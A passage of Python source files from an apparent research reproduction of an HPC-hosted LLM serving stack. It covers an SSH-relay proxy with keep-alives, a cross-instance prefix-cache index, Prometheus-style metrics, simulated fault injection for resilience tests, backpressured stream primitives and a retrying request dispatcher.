with keep-alive pings every 5 s, reconnects automatically, and forwards
authorized HTTP requests as ForceCommand invocations.  Streamed responses
relay chunk by chunk as stdout arrives, through a bounded buffer that
propagates backpressure to the HPC side; an outage fails every in-flight
request with an error instead of leaving callers hanging, and cancels the
upstream work.  One proxy instance per HPC platform; the gateway can load
balance across several proxies.
"""
from __future__ import annotations

from dataclasses import dataclass
from typing import Optional

from repro.core.circuit_breaker import ForceCommandBoundary, SSHResult
from repro.core.deferred import Deferred, Stream, pipe
from repro.core.monitoring import Metrics
from repro.slurmlite.clock import SimClock


@dataclass
class SSHLink:
    """The transport under the proxy; tests flip ``up`` to simulate cuts."""
    boundary: ForceCommandBoundary
    latency: float = 0.01054        # paper Table 1: SSH command 10.54 ms
    up: bool = True

    def exec(self, command: str, stdin: bytes = b"") -> SSHResult:
        if not self.up:
            raise ConnectionError("link down")
        return self.boundary.ssh_exec(command, stdin)


class HPCProxy:
    KEEPALIVE_PERIOD = 5.0          # paper §5.4: ping every 5 seconds

    def __init__(self, clock: SimClock, link: SSHLink,
                 metrics: Metrics | None = None,
                 reconnect_delay: float = 1.0,
                 name: str = "hpc-proxy-0",
                 stream_buffer: Optional[int] = 256):
        self.clock = clock
        self.link = link
        self.metrics = metrics or Metrics()
        self.reconnect_delay = reconnect_delay
        self.name = name
        self.stream_buffer = stream_buffer
        self.connected = False
        self.reconnects = 0
        self._started = False
        # one reconnect attempt may be pending at a time: a fresh timer
        # per failed keepalive would pile up duplicates across an outage
        self._reconnect_pending = False
        self._outage = False            # connectivity lost, not yet healed
        self._inflight: list = []       # fail-fast hooks for open requests

    # ----- lifecycle -----

    def start(self) -> None:
        if self._started:
            return
        self._started = True
        self._connect()
        self._schedule_keepalive()

    def _connect(self) -> None:
        self._reconnect_pending = False
        if self.link.up:
            self.connected = True
            self.metrics.counter("proxy_connects").inc()
            if self._outage:
                # one reconnect per outage, counted when it heals — not
                # once per failed ping while already disconnected
                self._outage = False
                self.reconnects += 1
        else:
            self.connected = False
            self._schedule_reconnect()

    def _schedule_reconnect(self) -> None:
        if self._reconnect_pending:
            return
        self._reconnect_pending = True
        self.clock.schedule(self.reconnect_delay, self._connect)

    def _lose_link(self) -> None:
        """Centralized outage entry: count the disconnect once, schedule
        (at most) one reconnect attempt, and fail every in-flight
        request — a cut mid-stream must resolve with an error, never
        hang."""
        if self.connected:
            self.metrics.counter("proxy_disconnects").inc()
        self.connected = False
        self._outage = True
        self._schedule_reconnect()
        flights, self._inflight = self._inflight, []
        for fail in flights:
            fail()

    def _schedule_keepalive(self) -> None:
        self.clock.schedule(self.KEEPALIVE_PERIOD, self._keepalive)

    def _keepalive(self) -> None:
        try:
            res = self.link.exec("KEEPALIVE")
            ok = res.exit_code == 0
        except ConnectionError:
            ok = False
        if ok:
            self.connected = True
            self.metrics.counter("proxy_keepalives").inc()
            if self._outage:            # the ping itself proved the heal
                self._outage = False
                self.reconnects += 1
        elif self.connected:
            self._lose_link()
        else:
            self._schedule_reconnect()  # no-op while one is pending
        self._schedule_keepalive()

    # ----- request path -----

    def forward(self, method: str, path: str, model: str, body: bytes,
                user_id: str = "", stream: bool = False) -> Deferred:
        """Forward one HTTP request across the SSH boundary.

        Resolves to an SSHResult (errors), the instance Response, or —
        for streamed requests — a live :class:`Stream` relaying SSE
        chunks as the remote stdout produces them, whose completion
        value is the final Response (or an exit-255 SSHResult if the
        link is cut mid-stream).
        """
        out = Deferred()
        settled = {"done": False}

        def settle(value) -> None:      # resolve exactly once
            if settled["done"]:
                return
            settled["done"] = True
            if entry in self._inflight:
                self._inflight.remove(entry)
            out.resolve(value)

        def fail() -> None:
            settle(SSHResult(255, b"", b"connection lost"))

        entry = fail
        if not self.connected:
            res = SSHResult(255, b"", b"proxy disconnected")
            self.clock.schedule(0.0, lambda: settle(res))
            return out
        cmd = f"REQ {method} {path} {model}"
        if stream:
            cmd += " STREAM"
        if user_id:
            cmd += f" USER {user_id}"
        self._inflight.append(entry)

        def run():
            try:
                res = self.link.exec(cmd, body)
            except ConnectionError:
                self._lose_link()       # fails this entry too, via settle
                settle(SSHResult(255, b"", b"connection lost"))
                return
            up = getattr(res, "deferred", None)
            if up is None:
                settle(res)
            elif hasattr(up, "on_chunk"):
                self._relay(up, settle)
            else:
                up.on_done(settle)      # keep the entry armed until then

        # the SSH round-trip latency (Table 1 row 2)
        self.clock.schedule(self.link.latency, run)
        return out

    def _relay(self, up: Stream, settle) -> None:
        """Streamed response: stand a bounded relay between the HPC-side
        stream (the ForceCommand stdout) and the caller.  Chunks flow as
        they arrive; when the caller lags past the buffer watermark the
        upstream is paused (backpressure reaches the engine's step
        loop); a link cut ends the relay with an error and cancels the
        upstream so the instance aborts the generation."""
        relay = Stream(max_buffer=self.stream_buffer)
        self.metrics.counter("proxy_streams_relayed").inc()
        pipe(up, relay)

        def fail_stream() -> None:
            up.cancel("proxy link lost")
            if not relay.done:
                self.metrics.counter("proxy_stream_failures").inc()
                relay.end(SSHResult(255, b"", b"connection lost"))

        entry = fail_stream
        self._inflight.append(entry)

        def finished(_value) -> None:
            if entry in self._inflight:
                self._inflight.remove(entry)
        relay.on_done(finished)
        # a client disconnect also closes the flight (cancel propagates
        # upstream through the pipe to abort the generation)
        relay.on_cancel(lambda _reason: finished(None))
        # hand the live stream to the caller immediately
        settle(relay)
