"""Cross-instance prefix-cache index (ROADMAP: cross-instance reuse).

The paper's load balancer picks a READY instance uniformly at random
(§5.6), which defeats the serving engine's prefix cache the moment a
service autoscales past one replica: a system prompt warmed on one node
misses on every other.  This module is the shared piece that converts the
single-node win into a fleet-wide one.

The scheduler process owns one :class:`PrefixIndex`.  Each scheduler tick
(≈ every 5 s keep-alive) every READY instance *publishes* the keys of its
resident prefix-cache blocks (``Engine.cached_block_keys()`` — the
fixed-size incremental digests from ``serving/kv_cache.py``).  A publish
*replaces* the instance's previous set, so eviction-driven retraction is
automatic: a key an instance evicted simply stops appearing.  Entries
carry a TTL so an instance that stops heartbeating (hung job, dead node)
ages out even before the scheduler reaps it, and the reaper retracts
explicitly.

The index answers one routing question: given the key chain of a request's
prompt head, which instance covers the *longest contiguous prefix*?  Keys
are opaque here — collision safety lives in the instance's BlockManager,
which re-verifies token contents before serving any block.  Worst case a
stale index entry costs one mis-routed request a cold prefill; it can
never serve foreign KV.
"""
from __future__ import annotations

from typing import Iterable, Optional


class PrefixIndex:
    """block-key -> set of instance job_ids, with per-instance TTL."""

    def __init__(self, clock=None, ttl_s: float = 30.0,
                 max_keys_per_instance: int = 65536):
        self.clock = clock
        self.ttl_s = ttl_s
        self.max_keys_per_instance = max_keys_per_instance
        self._keys: dict[int, set[str]] = {}      # job_id -> published keys
        self._stamp: dict[int, float] = {}        # job_id -> last publish
        self._by_key: dict[str, set[int]] = {}    # key -> job_ids
        # drained/dead instances: publishes are refused until the id is
        # explicitly resumed.  One int per retired job — the set grows
        # with job churn, which is scheduler-bounded, not request-bounded.
        self._quiesced: set[int] = set()
        self.publishes = 0
        self.publishes_blocked = 0
        self.retractions = 0
        self.expirations = 0

    def _now(self) -> float:
        if self.clock is None:
            return 0.0
        return self.clock.now()

    # ----- maintenance (scheduler side) -----

    def publish(self, job_id: int, keys: Iterable[str]) -> None:
        """Heartbeat: replace ``job_id``'s resident-key set.  Keys the
        instance evicted since the last heartbeat drop out here — that is
        the eviction-driven retraction path."""
        if job_id in self._quiesced:
            # a draining/dead instance must not re-enter the index via a
            # straggler heartbeat — routing would chase a corpse again
            self.publishes_blocked += 1
            return
        ordered = list(keys)
        if len(ordered) > self.max_keys_per_instance:
            # bound index memory; dropping keys only costs routing quality,
            # never correctness.  Truncate the *publisher's order* (the
            # engine emits roots before children per chain) rather than an
            # arbitrary set order, so root blocks — which coverage() walks
            # first — survive preferentially.
            ordered = ordered[:self.max_keys_per_instance]
        new = set(ordered)
        old = self._keys.get(job_id, set())
        for k in old - new:
            self._drop(k, job_id)
        for k in new - old:
            self._by_key.setdefault(k, set()).add(job_id)
        self._keys[job_id] = new
        self._stamp[job_id] = self._now()
        self.publishes += 1

    def retract(self, job_id: int) -> None:
        """Remove every key published by ``job_id`` (reaped/dead jobs)."""
        for k in self._keys.pop(job_id, set()):
            self._drop(k, job_id)
        if self._stamp.pop(job_id, None) is not None:
            self.retractions += 1

    def quiesce(self, job_id: int) -> None:
        """Retract ``job_id``'s keys AND refuse its future publishes —
        the drain/death path.  A reaped entry could otherwise heartbeat
        one more time between the retraction and its removal from the
        routing table, re-attracting affinity traffic."""
        self.retract(job_id)
        self._quiesced.add(job_id)

    def resume_publishes(self, job_id: int) -> None:
        """Lift a quiesce (an operator un-draining a replica)."""
        self._quiesced.discard(job_id)

    def expire(self, now: Optional[float] = None) -> list[int]:
        """Drop instances whose last publish is older than the TTL.
        Returns the expired job ids so the caller can retire any other
        per-instance state it keys the same way (e.g. the router's
        outstanding-request counts)."""
        now = self._now() if now is None else now
        stale = [j for j, t in self._stamp.items()
                 if now - t > self.ttl_s]
        for j in stale:
            self.retract(j)
            self.expirations += 1
        return stale

    def _drop(self, key: str, job_id: int) -> None:
        s = self._by_key.get(key)
        if s is not None:
            s.discard(job_id)
            if not s:
                del self._by_key[key]

    # ----- queries (request path) -----

    def instances_for(self, key: str) -> frozenset[int]:
        return frozenset(self._by_key.get(key, ()))

    def published_keys(self, job_id: int) -> int:
        """How many resident block keys ``job_id`` currently publishes —
        the scheduler's warmth signal (scale-down expires the coldest)."""
        return len(self._keys.get(job_id, ()))

    def coverage(self, chain: list[str],
                 candidates: Optional[Iterable[int]] = None) \
            -> dict[int, int]:
        """Per-instance contiguous coverage depth (in blocks, from the
        root) of the given key chain.  A gap ends the useful prefix: a
        cached block whose parent is missing cannot be referenced by the
        engine's longest-prefix walk."""
        cands = set(self._keys) if candidates is None else set(candidates)
        out: dict[int, int] = {}
        for j in cands:
            mine = self._keys.get(j)
            depth = 0
            if mine:
                for k in chain:
                    if k not in mine:
                        break
                    depth += 1
            out[j] = depth
        return out

    def best_instances(self, chain: list[str],
                       candidates: Optional[Iterable[int]] = None) \
            -> tuple[list[int], int]:
        """(job_ids with the deepest coverage, that depth in blocks).
        Depth 0 means no candidate holds even the root block."""
        cov = self.coverage(chain, candidates)
        if not cov:
            return [], 0
        depth = max(cov.values())
        if depth == 0:
            return [], 0
        return sorted(j for j, d in cov.items() if d == depth), depth

    # ----- introspection -----

    @property
    def num_instances(self) -> int:
        return len(self._keys)

    @property
    def num_keys(self) -> int:
        return len(self._by_key)

    def stats(self) -> dict:
        return {
            "instances": self.num_instances,
            "keys": self.num_keys,
            "publishes": self.publishes,
            "publishes_blocked": self.publishes_blocked,
            "retractions": self.retractions,
            "expirations": self.expirations,
        }


def request_chain_keys(body: dict, block_size: int,
                       max_blocks: int = 64) -> list[str]:
    """Key chain for a request body's prompt head — the hash the router
    queries the index with.  Uses explicit ``prompt_ids`` when the client
    provides token ids; otherwise falls back to a deterministic byte-level
    tokenization of the rendered messages/prompt text, which instances'
    cache-simulating backends mirror exactly (``slurmlite/instances.py``).
    Only the head (``max_blocks`` blocks) is hashed: routing needs the
    shared-system-prompt region, not the whole conversation, and this
    bounds per-request hashing cost."""
    from repro.serving.kv_cache import chain_keys

    salt = body.get("cache_salt") or None
    ids = body.get("prompt_ids")
    if ids is None:
        text = body.get("prompt")
        if text is None:
            msgs = body.get("messages") or []
            text = "\n".join(
                f"{m.get('role', '')}: {m.get('content', '')}"
                for m in msgs if isinstance(m, dict))
        ids = list(str(text).encode())
    # a migrated stream's prompt is the original plus the tokens already
    # emitted before its replica died (``resume_tokens``); hashing them
    # into the chain steers the retry at whichever surviving replica has
    # the deepest coverage of that exact continuation
    resume = body.get("resume_tokens")
    if resume:
        ids = list(ids) + [int(t) for t in resume]
    return chain_keys(ids, block_size, salt=salt, max_blocks=max_blocks)
