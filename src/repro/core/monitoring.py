"""Prometheus-shaped metrics (paper §5.9): counters, gauges, histograms,
plus a text exposition renderer scraped by the (external) Grafana stack.
Only non-conversational metadata is ever recorded (GDPR minimization,
paper §6.2): user ids, timestamps, model names — never prompt content.
"""
from __future__ import annotations

import bisect
from dataclasses import dataclass, field


class Counter:
    def __init__(self, name: str):
        self.name = name
        self.value = 0.0

    def inc(self, v: float = 1.0) -> None:
        self.value += v


class Gauge:
    def __init__(self, name: str):
        self.name = name
        self.value = 0.0

    def set(self, v: float) -> None:
        self.value = float(v)

    def inc(self, v: float = 1.0) -> None:
        self.value += v

    def dec(self, v: float = 1.0) -> None:
        self.value -= v


class Histogram:
    DEFAULT_BUCKETS = (0.001, 0.0025, 0.005, 0.01, 0.025, 0.05, 0.1, 0.25,
                       0.5, 1.0, 2.5, 5.0, 10.0, 30.0, 60.0)

    def __init__(self, name: str, buckets=DEFAULT_BUCKETS):
        self.name = name
        self.buckets = list(buckets)
        self.counts = [0] * (len(self.buckets) + 1)
        self.total = 0.0
        self.n = 0
        self._samples: list[float] = []

    def observe(self, v: float) -> None:
        i = bisect.bisect_left(self.buckets, v)
        self.counts[i] += 1
        self.total += v
        self.n += 1
        self._samples.append(v)

    def mean(self) -> float:
        return self.total / self.n if self.n else 0.0

    def quantile(self, q: float) -> float:
        if not self._samples:
            return 0.0
        s = sorted(self._samples)
        return s[min(int(q * len(s)), len(s) - 1)]


@dataclass
class Metrics:
    counters: dict = field(default_factory=dict)
    gauges: dict = field(default_factory=dict)
    histograms: dict = field(default_factory=dict)

    def counter(self, name: str) -> Counter:
        return self.counters.setdefault(name, Counter(name))

    def gauge(self, name: str) -> Gauge:
        return self.gauges.setdefault(name, Gauge(name))

    def histogram(self, name: str, **kw) -> Histogram:
        return self.histograms.setdefault(name, Histogram(name, **kw))

    def sync_totals(self, counters: dict | None = None,
                    gauges: dict | None = None) -> None:
        """Mirror externally-accumulated absolute totals (e.g. the serving
        engine's prefix-cache stats) into this registry.  Counters are
        *set*, not incremented — the source owns the monotonic total; we
        only reflect it for scraping."""
        for name, v in (counters or {}).items():
            self.counter(name).value = float(v)
        for name, v in (gauges or {}).items():
            self.gauge(name).set(v)

    def snapshot(self) -> dict:
        """Point-in-time dict of every counter and gauge value.  The
        resilience harness diffs two snapshots around a fault window to
        attribute counter deltas (retries, kills, cache hits) to that
        fault alone."""
        return {
            "counters": {n: c.value for n, c in self.counters.items()},
            "gauges": {n: g.value for n, g in self.gauges.items()},
        }

    def render_prometheus(self) -> str:
        lines = []
        for c in self.counters.values():
            lines.append(f"# TYPE {c.name} counter")
            lines.append(f"{c.name} {c.value}")
        for g in self.gauges.values():
            lines.append(f"# TYPE {g.name} gauge")
            lines.append(f"{g.name} {g.value}")
        for h in self.histograms.values():
            lines.append(f"# TYPE {h.name} histogram")
            acc = 0
            for b, c in zip(h.buckets, h.counts):
                acc += c
                lines.append(f'{h.name}_bucket{{le="{b}"}} {acc}')
            lines.append(f'{h.name}_bucket{{le="+Inf"}} {h.n}')
            lines.append(f"{h.name}_sum {h.total}")
            lines.append(f"{h.name}_count {h.n}")
        return "\n".join(lines) + "\n"
