"""Declarative fault injection on the sim clock.

The resilience benchmark (and the fault-tolerance tests) describe a
*schedule* of failures — node kills, walltime expiries, SSH link cuts —
as data, and :class:`FaultInjector` arms them as clock events.  Keeping
the schedule declarative makes a scenario reproducible byte-for-byte
(everything rides the deterministic :class:`~repro.slurmlite.clock.
SimClock`) and lets one harness drive very different failure mixes.

Event kinds:

* ``node_kill`` / ``node_restore`` — ``SlurmCluster.fail_node`` /
  ``restore_node``; every service job on the node dies (FAILED), firing
  the scheduler's synchronous ``on_end`` teardown and the instances'
  kill-settle path.
* ``walltime_expiry`` — ``SlurmCluster.update_time_limit`` shrinks a
  job's limit so it times out *naturally* at ``at_s + grace_s``; with a
  drain horizon configured the scheduler sees the shrunken remaining
  time on its next tick and drains the replica first.
* ``link_cut`` / ``link_heal`` — flip the proxy's :class:`~repro.core.
  hpc_proxy.SSHLink` down/up (requests in flight across the boundary
  fail fast; keep-alives detect the heal).
"""
from __future__ import annotations

from dataclasses import dataclass, field
from typing import Optional


KINDS = ("node_kill", "node_restore", "walltime_expiry",
         "link_cut", "link_heal")


@dataclass
class FaultEvent:
    at_s: float                      # absolute sim time to fire at
    kind: str                        # one of KINDS
    node: Optional[str] = None       # node_kill / node_restore
    job_id: Optional[int] = None     # walltime_expiry
    grace_s: float = 0.0             # walltime_expiry: time-to-live from at_s

    def __post_init__(self):
        if self.kind not in KINDS:
            raise ValueError(f"unknown fault kind {self.kind!r}")


@dataclass
class FaultInjector:
    clock: object                    # SimClock
    slurm: object = None             # SlurmCluster (node/walltime kinds)
    link: object = None              # SSHLink (link kinds)
    fired: list = field(default_factory=list)   # (t, FaultEvent) log

    def arm(self, events: list[FaultEvent]) -> None:
        """Schedule every event at its absolute sim time (events in the
        past fire on the next clock pass)."""
        for ev in sorted(events, key=lambda e: e.at_s):
            delay = max(0.0, ev.at_s - self.clock.now())
            self.clock.schedule(delay, lambda ev=ev: self._fire(ev))

    def _fire(self, ev: FaultEvent) -> None:
        self.fired.append((self.clock.now(), ev))
        if ev.kind == "node_kill":
            self.slurm.fail_node(ev.node)
        elif ev.kind == "node_restore":
            self.slurm.restore_node(ev.node)
        elif ev.kind == "walltime_expiry":
            j = self.slurm.jobs.get(ev.job_id)
            if j is None or j.start_time is None:
                return                       # job gone/not started: no-op
            elapsed = self.clock.now() - j.start_time
            self.slurm.update_time_limit(ev.job_id, elapsed + ev.grace_s)
        elif ev.kind == "link_cut":
            self.link.up = False
        elif ev.kind == "link_heal":
            self.link.up = True
