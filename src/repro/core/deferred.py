"""Tiny deferred/future for the discrete-event stack (single-threaded)."""
from __future__ import annotations

from typing import Any, Callable, Optional


class Deferred:
    def __init__(self):
        self.done = False
        self.value: Any = None
        self._callbacks: list[Callable[[Any], None]] = []

    def resolve(self, value: Any) -> None:
        assert not self.done, "deferred resolved twice"
        self.done = True
        self.value = value
        cbs, self._callbacks = self._callbacks, []
        for cb in cbs:
            cb(value)

    def on_done(self, cb: Callable[[Any], None]) -> None:
        if self.done:
            cb(self.value)
        else:
            self._callbacks.append(cb)


class Stream:
    """Chunked deferred for streamed responses (SSE-like, single-threaded):
    ``emit`` per chunk, ``end`` resolves the completion value."""

    def __init__(self):
        self.chunks: list = []
        self.done = False
        self.value = None
        self._chunk_cbs: list[Callable] = []
        self._done_cbs: list[Callable] = []

    def on_chunk(self, cb: Callable) -> None:
        for c in self.chunks:
            cb(c)
        self._chunk_cbs.append(cb)

    def on_done(self, cb: Callable) -> None:
        if self.done:
            cb(self.value)
        else:
            self._done_cbs.append(cb)

    def emit(self, chunk) -> None:
        assert not self.done
        self.chunks.append(chunk)
        for cb in self._chunk_cbs:
            cb(chunk)

    def end(self, value) -> None:
        assert not self.done
        self.done = True
        self.value = value
        for cb in self._done_cbs:
            cb(value)
