"""Tiny deferred/future for the discrete-event stack (single-threaded)."""
from __future__ import annotations

from typing import Any, Callable, Optional


class Deferred:
    def __init__(self):
        self.done = False
        self.value: Any = None
        self._callbacks: list[Callable[[Any], None]] = []

    def resolve(self, value: Any) -> None:
        assert not self.done, "deferred resolved twice"
        self.done = True
        self.value = value
        cbs, self._callbacks = self._callbacks, []
        for cb in cbs:
            cb(value)

    def on_done(self, cb: Callable[[Any], None]) -> None:
        if self.done:
            cb(self.value)
        else:
            self._callbacks.append(cb)


class Stream:
    """Chunked deferred for streamed responses (SSE-like, single-threaded):
    ``emit`` per chunk, ``end`` resolves the completion value.

    Flow control (the streaming relay contract, DESIGN.md §Streaming):

    * ``max_buffer`` bounds the *undelivered* backlog.  ``emit`` always
      accepts the chunk (nothing is ever dropped) but ``writable`` turns
      False once the backlog reaches the watermark — a cooperating
      producer checks it after each emit, pauses its source, and parks a
      one-shot ``on_writable`` callback to resume.
    * ``pause``/``resume`` suspend delivery to the consumer side; chunks
      emitted while paused buffer up and flush in order on resume.  The
      completion value is held back until the backlog has drained, so a
      consumer never sees ``on_done`` before the last chunk.
    * ``cancel(reason)`` is the consumer walking away (disconnect):
      idempotent, drops all future chunks, fires ``on_cancel`` callbacks
      once (producers use it to abort upstream work).  A producer-side
      ``end`` after cancel is absorbed quietly.
    """

    def __init__(self, max_buffer: Optional[int] = None):
        self.chunks: list = []
        self.done = False
        self.value = None
        self.max_buffer = max_buffer
        self.paused = False
        self.cancelled = False
        self.cancel_reason = ""
        self._delivered = 0             # chunks already handed to consumers
        self._ended = False             # end() called; done once drained
        self._chunk_cbs: list[Callable] = []
        self._done_cbs: list[Callable] = []
        self._cancel_cbs: list[Callable] = []
        self._writable_cbs: list[Callable] = []

    # ----- consumer surface -----

    @property
    def buffered(self) -> int:
        """Chunks emitted but not yet delivered to any consumer."""
        return len(self.chunks) - self._delivered

    def on_chunk(self, cb: Callable) -> None:
        # catch a late consumer up on everything already delivered, then
        # join the live delivery loop (which drains any paused backlog)
        for c in self.chunks[:self._delivered]:
            cb(c)
        self._chunk_cbs.append(cb)
        self._deliver()

    def on_done(self, cb: Callable) -> None:
        if self.done:
            cb(self.value)
        else:
            self._done_cbs.append(cb)

    def pause(self) -> None:
        self.paused = True

    def resume(self) -> None:
        if not self.paused:
            return
        self.paused = False
        self._deliver()

    def cancel(self, reason: str = "") -> None:
        """Consumer disconnect: stop the stream and tell the producer."""
        if self.done or self.cancelled:
            return
        self.cancelled = True
        self.cancel_reason = reason
        cbs, self._cancel_cbs = self._cancel_cbs, []
        for cb in cbs:
            cb(reason)

    def on_cancel(self, cb: Callable) -> None:
        if self.cancelled:
            cb(self.cancel_reason)
        else:
            self._cancel_cbs.append(cb)

    # ----- producer surface -----

    @property
    def writable(self) -> bool:
        """False when the consumer lags past the watermark (or is gone):
        a cooperating producer should pause its source."""
        if self.cancelled:
            return False
        return not self.paused and (self.max_buffer is None
                                    or self.buffered < self.max_buffer)

    def on_writable(self, cb: Callable) -> None:
        """One-shot: fires (once) when the stream becomes writable again.
        Immediate when it already is."""
        if self.writable:
            cb()
        else:
            self._writable_cbs.append(cb)

    def emit(self, chunk) -> None:
        if self.cancelled:
            return                      # consumer gone: drop on the floor
        assert not self.done
        self.chunks.append(chunk)
        self._deliver()

    # a Stream can stand in for a plain per-chunk callback
    def __call__(self, chunk) -> None:
        self.emit(chunk)

    def end(self, value) -> None:
        if self.cancelled:
            # producer finishing after a disconnect: record, stay quiet
            self.done = True
            self.value = value
            return
        assert not self.done
        self._ended = True
        self.value = value
        self._deliver()
        if not self.done and not (self._chunk_cbs and self.buffered):
            # nobody is consuming chunks (or there is no backlog):
            # complete immediately — matching the pre-flow-control
            # behaviour for done-only consumers
            self._finish()

    # ----- internals -----

    def _deliver(self) -> None:
        while (not self.paused and not self.cancelled and self._chunk_cbs
               and self._delivered < len(self.chunks)):
            c = self.chunks[self._delivered]
            self._delivered += 1
            for cb in list(self._chunk_cbs):
                cb(c)
        if self._writable_cbs and self.writable:
            cbs, self._writable_cbs = self._writable_cbs, []
            for cb in cbs:
                cb()
        if self._ended and not self.done and not self.buffered:
            self._finish()

    def _finish(self) -> None:
        self.done = True
        cbs, self._done_cbs = self._done_cbs, []
        for cb in cbs:
            cb(self.value)


def pipe(upstream: Stream, downstream: Stream) -> Stream:
    """Relay ``upstream`` into ``downstream`` with backpressure and
    cancel propagation — the per-hop building block of the streaming
    chain (engine → instance → cloud script → SSH stdout → proxy →
    gateway).

    * chunks forward in order; when the downstream buffer crosses its
      watermark the upstream is paused and resumed on ``on_writable``,
    * the completion value forwards once the upstream ends,
    * a downstream cancel (client disconnect) propagates upstream so the
      producer can abort (eventually reaching ``Engine.abort_group``).
    """
    def feed(chunk):
        if downstream.done or downstream.cancelled:
            return              # relay torn down (link cut) mid-backlog
        downstream.emit(chunk)
        if not downstream.writable and not upstream.paused:
            upstream.pause()
            downstream.on_writable(upstream.resume)

    upstream.on_chunk(feed)
    upstream.on_done(lambda v: downstream.cancelled or downstream.end(v))
    downstream.on_cancel(upstream.cancel)
    return downstream
