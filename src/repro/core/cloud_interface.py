"""Cloud Interface Script (paper §5.5) — the forced entrypoint on the HPC
service node.

Receives every request that crosses the SSH boundary, triggers the scheduler
on keep-alive pings (every ~5 s), resolves inference requests through the
routing table, and forwards them to the chosen instance's (node, port).
Responses return via stdout (modelled as a resolved :class:`Deferred`);
request bodies arrive via stdin.

Fault tolerance (DESIGN.md §Fault tolerance): dispatch is owned by a
per-request :class:`_Dispatch` state machine.  A replica that dies
mid-request settles its in-flight work with a retryable 503
(``InstanceRuntime.kill``); the dispatcher re-picks a surviving replica
after a deterministic exponential backoff, bounded by a per-request retry
cap and a per-service sliding-window :class:`RetryBudget` (no retry
storms).  A *streamed* request that dies mid-generation is **migrated**:
the tokens already emitted ride the retry payload (``resume_tokens``), so
the new replica's prefill is mostly prefix-cache hits and the client's
stream continues exactly where it stopped — no duplicate, no missing
token.  Per-request deadlines (body ``timeout_s``) settle 504 wherever
the request happens to be.  Every request settles exactly once.
"""
from __future__ import annotations

import json
import random
from dataclasses import dataclass

from repro.core.circuit_breaker import ParsedRequest, SSHResult, \
    validate_request
from repro.core.deferred import Deferred, Stream
from repro.core.errors import error_envelope
from repro.core.monitoring import Metrics
from repro.core.prefix_index import request_chain_keys
from repro.core.scheduler import ChatScheduler
from repro.slurmlite import Request, Response


def _ok(obj) -> SSHResult:
    return SSHResult(0, json.dumps(obj).encode())


def _err(code: int, message: str, param: str | None = None) -> SSHResult:
    # the OpenAI envelope of the whole chain (core/errors.py); "code"
    # carries the HTTP status since SSH framing has no status line
    return _ok(error_envelope(code, message, param))


@dataclass
class RetryPolicy:
    """Bounded exponential backoff for replica-death retries.  Jitter is
    drawn from the dispatcher's seeded RNG, so runs on the sim clock are
    deterministic while real deployments still decorrelate."""
    max_retries: int = 3
    base_backoff_s: float = 0.05
    max_backoff_s: float = 2.0
    jitter: float = 0.25            # fraction of the backoff, additive

    def backoff(self, attempt: int, rng: random.Random) -> float:
        """Delay before retry ``attempt`` (1-indexed)."""
        base = min(self.base_backoff_s * (2 ** (attempt - 1)),
                   self.max_backoff_s)
        return base * (1.0 + self.jitter * rng.random())


class RetryBudget:
    """Per-service sliding-window retry budget.  A node failure taking a
    whole replica down makes *every* request on it retry at once; that is
    fine.  What must not happen is a persistent failure (every retry also
    503s) amplifying load: retries are allowed only while the window's
    retry count stays below ``min_retries + ratio × recent requests``."""

    def __init__(self, clock, window_s: float = 60.0,
                 ratio: float = 0.5, min_retries: int = 8):
        self.clock = clock
        self.window_s = window_s
        self.ratio = ratio
        self.min_retries = min_retries
        self._requests: dict[str, list[float]] = {}
        self._retries: dict[str, list[float]] = {}

    def _prune(self, log: list[float]) -> None:
        t0 = self.clock.now() - self.window_s
        while log and log[0] < t0:
            log.pop(0)

    def note_request(self, service: str) -> None:
        self._requests.setdefault(service, []).append(self.clock.now())

    def allow(self, service: str) -> bool:
        reqs = self._requests.setdefault(service, [])
        rets = self._retries.setdefault(service, [])
        self._prune(reqs)
        self._prune(rets)
        return len(rets) < self.min_retries + self.ratio * len(reqs)

    def note_retry(self, service: str) -> None:
        self._retries.setdefault(service, []).append(self.clock.now())


def _chunk_token(chunk):
    """Extract the generated token id from one stream chunk — the resume
    ledger's unit.  Engine-backed chunks are SSE ``chat.completion.chunk``
    bytes carrying the raw id in the ``token`` extension field; the
    latency-model backend emits ``(token_index, t)`` tuples.  Returns None
    when the token is unknowable (an n>1 child stream, an opaque frame) —
    such a stream cannot be migrated without risking corruption."""
    if isinstance(chunk, (bytes, bytearray)):
        from repro.serving.api import parse_sse
        try:
            events = parse_sse(bytes(chunk))
        except Exception:
            return None
        for ev in events:
            if not isinstance(ev, dict):
                return None              # [DONE] mid-relay: not a token
            choice = (ev.get("choices") or [{}])[0]
            if choice.get("index", 0) != 0:
                return None              # multi-choice: not resumable
            tok = choice.get("token")
            return None if tok is None else int(tok)
        return None
    if isinstance(chunk, tuple) and chunk:
        return int(chunk[0])
    return None


class _ChunkRelay:
    """Sits between the backend and the client stream, recording every
    emitted token id — the dispatcher's resume ledger for stream
    migration.  Counts *emissions* (what the backend produced), not
    deliveries: a paused client stream buffers chunks, and resuming from
    the delivered count would replay the buffered tail as duplicates.

    The producer-side flow-control surface (``writable``/``on_writable``/
    ``cancelled``/``on_cancel``) delegates to the client stream, so
    backpressure and disconnect-cancel pass through unchanged."""

    def __init__(self, downstream: Stream):
        self.downstream = downstream
        self.tokens: list[int] = []
        self.tokens_ok = True

    @property
    def emitted(self) -> int:
        return len(self.tokens)

    def __call__(self, chunk) -> None:
        if self.downstream.done or self.downstream.cancelled:
            return                       # settled/disconnected: drop
        tok = _chunk_token(chunk)
        if tok is None:
            self.tokens_ok = False
        else:
            self.tokens.append(tok)
        self.downstream.emit(chunk)

    @property
    def writable(self) -> bool:
        return self.downstream.writable

    def on_writable(self, cb) -> None:
        self.downstream.on_writable(cb)

    @property
    def cancelled(self) -> bool:
        return self.downstream.cancelled

    def on_cancel(self, cb) -> None:
        self.downstream.on_cancel(cb)


class _Dispatch:
    """One request's dispatch lifecycle: attempts, retries, migration,
    deadline, client cancel — with exactly-once settlement.  ``_settle``
    is the single place the request ends: it runs the request-level
    bookkeeping and resolves the client's deferred/stream; every other
    path funnels into it and every entry is guarded by ``settled``."""

    def __init__(self, script: "CloudInterfaceScript", svc: str,
                 sreq: Request, stream: Stream | None, deferred,
                 timeout_s: float | None):
        self.script = script
        self.scheduler = script.scheduler
        self.metrics = script.metrics
        self.svc = svc
        self.sreq = sreq
        self.stream = stream
        self.deferred = deferred
        self.relay = _ChunkRelay(stream) if stream is not None else None
        self.timeout_s = timeout_s
        self.settled = False
        self.attempts = 0                # retries used so far
        self.cancel_handle = None        # live attempt's backend handle
        # the original request shape; migration rewrites sreq in terms of
        # these so repeated migrations stay consistent
